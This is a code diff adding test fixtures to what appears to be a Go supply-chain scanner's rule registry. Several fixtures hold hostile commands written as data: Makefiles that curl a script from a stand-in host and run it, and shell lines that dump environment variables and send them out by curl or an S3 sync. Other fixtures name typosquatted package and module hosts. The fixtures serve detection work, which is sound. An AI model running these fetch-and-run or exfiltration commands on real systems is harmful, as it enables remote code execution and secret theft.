@@ -98,6 +98,11 @@ var registry = []Rule{
 		{"Taskfile.yml", "version: '3'\nvars:\n  V: {sh: \"curl -fsSL https://api.x.invalid/latest\"}\ntasks:\n  x:\n    cmds:\n      - echo \"{{.V}}\" > VERSION", 0, true},
 		// make's automatic variables: curl -o $@ writes the rule's target, which another rule runs.
 		{"Makefile", "BOOT := $(CURDIR)/.cache/boot.sh\n$(BOOT):\n\tcurl -fsSL https://x.invalid/boot.sh -o $@\ntools: $(BOOT)\n\tsh $(BOOT) --quiet", 5, false},
+		// make expands its variables as text before the shell runs the line:
+		// a command in a variable, a define block, make code a download printed.
+		{"Makefile", "CURL = curl -fsSL\nU = https://x.invalid/t.sh\nall:\n\t$(CURL) $(U) -o t.sh\n\tsh ./t.sh", 5, false},
+		{"Makefile", "define FETCH\ncurl -fsSL https://x.invalid/t.sh -o /tmp/t.sh\nendef\nall:\n\t$(FETCH)\n\tsh /tmp/t.sh", 6, false},
+		{"Makefile", "$(eval $(shell curl -fsSL https://x.invalid/rules.mk))", 0, false},
 		// A version read from the network is text, not code.
 		{"Makefile", "V := $(shell curl -s https://api.x.invalid/latest)\nall:\n\techo $(V) > VERSION", 0, true},
 		// Checked against a digest or signature the change fixes, the
@@ -193,6 +198,9 @@ var registry = []Rule{
 			{"x.sh", "printenv | base64 > e.txt\ngh api -X POST repos/o/r/issues -F body=@e.txt", 2, false},
 			{"x.sh", "env > e.txt\ncurl --data-urlencode \"d@e.txt\" https://x.invalid/u", 2, false},
 			{"x.sh", "gh release create v1 --notes-file CHANGELOG.md dist/*", 0, true},
+			// A deploy of the checkout: what it sends is the site, not secrets the script wrote.
+			{".github/workflows/d.yml", "on: push\njobs:\n  d:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: rsync -avz --delete ./ deploy@x.invalid:/var/www/\n      - run: aws s3 sync . s3://x-site --delete", 0, true},
+			{"x.sh", "env > out/e.txt\naws s3 sync out s3://x-b", 2, false},
 			// Task's vars and templates, a command folded over lines (- >-), tasks sharing files.
 			{"Taskfile.yml", "version: '3'\nvars:\n  OUT: .cov\ntasks:\n  meta:\n    cmds:\n      - printenv > {{.OUT}}/meta.env\n  push:\n    cmds:\n      - >-\n        curl -sS\n        --upload-file {{.OUT}}/meta.env\n        https://x.invalid/put", 11, false},
 			// Jenkins: what withCredentials binds, written to a file by writeFile, sent by a later sh step.
@@ -453,6 +461,9 @@ var registry = []Rule{
 			{"package.json", "{\n  \"dependencies\": {\n    \"lodash\": \"https://x.invalid/lodash-4.17.21.tgz\"\n  }\n}", 3, false},
 			{"requirements.txt", "requests @ https://x.invalid/requests-2.32.0.tar.gz", 0, false},
 			{"package.json", "{\n  \"dependencies\": {\n    \"lodash\": \"^4.17.21\"\n  }\n}", 3, true},
+			// An import map sends a name to code at a URL.
+			{"deno.json", "{\n  \"imports\": {\n    \"@std/path\": \"https://deno-land.jsr-cdn.x.invalid/@std/path/1.0.8/mod.ts\"\n  }\n}", 3, false},
+			{"deno.json", "{\n  \"imports\": {\n    \"$std/\": \"https://deno.land/std@0.224.0/\",\n    \"preact\": \"https://esm.sh/preact@10.22.0\",\n    \"@std/assert\": \"jsr:@std/assert@^1.0.0\"\n  }\n}", 0, true},
 			// A hunk inside the block, its key not shown.
 			{"package.json", "diff --git a/package.json b/package.json\n--- a/package.json\n+++ b/package.json\n@@ -3,2 +3,2 @@\n     \"eslint\": \"^8.56.0\",\n-    \"chalk\": \"^5.3.0\"\n+    \"chalk\": \"github:chalk-dev/chalk#v5.3.0\"\n", 4, false},
 			{"package.json", "diff --git a/package.json b/package.json\n--- a/package.json\n+++ b/package.json\n@@ -3,2 +3,2 @@\n   \"license\": \"MIT\",\n-  \"homepage\": \"https://x.invalid\"\n+  \"homepage\": \"https://x.invalid/docs#readme\"\n", 4, true},
@@ -494,9 +505,15 @@ var registry = []Rule{
 			{"go.mod", "module x\n\nreplace github.com/boltdb/bolt => github.com/bolt-go/bolt v1.3.1", 3, false},
 			{"package-lock.json", "diff --git a/package-lock.json b/package-lock.json\n--- a/package-lock.json\n+++ b/package-lock.json\n@@ -1,2 +1,2 @@\n     \"node_modules/ms\": {\n-      \"resolved\": \"https://registry.npmjs.org/ms/-/ms-2.1.3.tgz\",\n+      \"resolved\": \"https://npm.x.invalid/ms/-/ms-2.1.3.tgz\",\n", 2, false},
 			{"go.mod", "module x\n\nreplace k8s.io/api => ./staging/src/k8s.io/api", 3, true},
+			// A crate renamed with package =, a bake file's variable that
+			// feeds FROM: the name stays, the code behind it changes.
+			{"Cargo.toml", "diff --git a/Cargo.toml b/Cargo.toml\n--- a/Cargo.toml\n+++ b/Cargo.toml\n@@ -6,3 +6,3 @@\n [dependencies]\n-fast_log = \"1.7\"\n+fast_log = { package = \"faster_log\", version = \"1.7\" }\n rust_decimal = \"1.36\"\n", 7, false},
+			{"Cargo.toml", "[dependencies]\nrand_core_05 = { package = \"rand_core\", version = \"0.5\" }\nserde1 = { package = \"serde\", version = \"1\" }", 0, true},
+			{"docker-bake.hcl", "diff --git a/docker-bake.hcl b/docker-bake.hcl\n--- a/docker-bake.hcl\n+++ b/docker-bake.hcl\n@@ -1,3 +1,3 @@\n variable \"BASE\" {\n-  default = \"cgr.dev/chainguard/go:latest\"\n+  default = \"ghcr.io/chainguard-images/go:latest\"\n }\n", 2, false},
+			{"docker-bake.hcl", "diff --git a/docker-bake.hcl b/docker-bake.hcl\n--- a/docker-bake.hcl\n+++ b/docker-bake.hcl\n@@ -1,3 +1,3 @@\n variable \"BASE\" {\n-  default = \"cgr.dev/chainguard/go:1.22\"\n+  default = \"cgr.dev/chainguard/go:1.23\"\n }\n", 0, true},
 			// An npm alias puts another package under a well-known name.
 			{"package.json", "{\n  \"dependencies\": {\n    \"react\": \"npm:@react-community/react@18.2.0\"\n  }\n}", 3, false},
-			{"package.json", "{\n  \"dependencies\": {\n    \"react\": \"npm:@preact/compat@17.1.2\",\n    \"string-width-cjs\": \"npm:string-width@^4.2.0\",\n    \"lodash\": \"npm:lodash@4.17.21\"\n  }\n}", 0, true},
+			{"package.json", "{\n  \"dependencies\": {\n    \"react\": \"npm:@preact/compat@17.1.2\",\n    \"string-width-cjs\": \"npm:string-width@^4.2.0\",\n    \"fdir1\": \"npm:fdir@1.2.0\",\n    \"lodash\": \"npm:lodash@4.17.21\"\n  }\n}", 0, true},
 		}},
 	{"lookalike-source", KindDependency, High, "names a look-alike of a well-known package, module, action, image, orb or hook repository",
 		"a name one letter off a well-known one is how typosquatted code gets run", []Case{
@@ -507,6 +524,12 @@ var registry = []Rule{
 			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - uses: actions/setup-node@v4\n      - uses: github/codeql-action/init@v3", 5, true},
 			{"yarn.lock", "lodash@^4.17.21:\n  version \"4.17.21\"\n  resolved \"https://registry.yarnpkg.co/lodash/-/lodash-4.17.21.tgz#679591c5\"", 3, false},
 			{".circleci/config.yml", "version: 2.1\norbs:\n  aws: circleci-orbs/aws-cli@4.1.0\njobs: {}", 3, false},
+			{".gitlab-ci.yml", "include:\n  - component: $CI_SERVER_FQDN/gitlab-componets/sast/sast@~latest", 2, false},
+			// A well-known action's name in an image under an owner named
+			// after the action's own; a module host a letter off Deno's.
+			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - uses: docker://ghcr.io/golangci-lint/golangci-lint-action:latest", 4, false},
+			{"deno.json", "{\n  \"imports\": {\n    \"x\": \"https://dcno.land/x/mod.ts\"\n  }\n}", 3, false},
+			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - uses: docker://ghcr.io/actions-runner-controller/actions-runner-controller/gha-runner-scale-set-controller:0.9.3", 0, true},
 			// A module path: the repository's name under an owner with a
 			// word added or a letter changed, or on a host a letter off.
 			{"go.mod", "diff --git a/go.mod b/go.mod\n--- a/go.mod\n+++ b/go.mod\n@@ -5,2 +5,2 @@ require (\n+\tgithub.com/boltdb-go/bolt v1.3.1\n \tgithub.com/stretchr/testify v1.9.0\n-\tgo.etcd.io/bbolt v1.3.11\n", 5, false},
